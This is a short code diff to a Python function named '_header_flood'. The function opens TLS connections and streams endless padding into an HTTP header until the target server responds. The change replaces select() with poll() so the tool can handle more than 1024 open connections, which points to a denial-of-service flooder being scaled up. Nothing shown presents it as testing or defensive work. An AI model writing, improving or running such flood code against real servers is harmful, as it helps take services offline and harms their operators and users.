@@ -97,7 +97,9 @@ def _header_flood(target: Target, until: float) -> None:
     def once() -> None:
         with rawhttp.tls(target[0], _ctx(target[1])) as s:
             s.sendall(b"POST " + PATH.encode() + b" HTTP/1.1\r\nHost: x\r\nX-Pad: ")
-            while not select.select([s], [], [], 0)[0]:
+            answered = select.poll()  # select() fails on descriptors above 1024
+            answered.register(s, select.POLLIN)
+            while not answered.poll(0):
                 s.sendall(b"a" * 16384)
             s.recv(65536)
 
